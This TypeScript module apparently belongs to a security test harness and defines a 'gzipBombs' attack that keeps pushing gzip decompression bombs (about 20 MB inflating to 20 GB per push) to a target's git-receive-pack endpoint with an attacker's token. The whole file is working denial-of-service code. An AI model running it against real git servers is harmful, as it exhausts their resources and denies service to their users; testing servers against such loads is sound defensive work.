import { request } from "node:http";
import { gzipSync } from "node:zlib";
import { basic } from "../../support/api";
import type { PrepareAttack } from "./attack";
import { formatCommands } from "./git-wire";

const mebibyte = 1024 * 1024;
/** 1 MB of it is 1 GB. */
const bomb = gzipSync(Buffer.alloc(64 * mebibyte));
const bombs = 320;

/** Pushes what is no pack: 20 MB that stand for 20 GB. */
export const gzipBombs: PrepareAttack = async ({ attacker, target }) => ({
    name: `pushes of ${Math.round((bombs * bomb.length) / mebibyte)} MiB that inflate to ${(bombs * 64) / 1024} GiB`,
    begin: async () => {
        let isEnded = false;
        const push = () =>
            new Promise<void>((resolve) => {
                const headers = {
                    ...basic("git", attacker.token as string),
                    "content-type": "application/x-git-receive-pack-request",
                    "content-encoding": "gzip",
                };
                const sent = request(`${target.gitUrl}/git-receive-pack`, { method: "POST", headers }, (answer) => {
                    answer.resume().once("close", resolve);
                });
                sent.once("error", () => resolve());
                sent.write(gzipSync(formatCommands([{ ref: "refs/heads/x", after: "1".repeat(40) }])));
                let count = 0;
                const send = () => {
                    while (count < bombs && !isEnded) {
                        count += 1;
                        if (!sent.write(bomb)) return void sent.once("drain", send);
                    }
                    sent.end();
                };
                send();
            });
        const attack = async () => {
            while (!isEnded) await push();
        };
        const attacking = attack();
        return {
            end: async () => {
                isEnded = true;
                await attacking;
            },
        };
    },
});
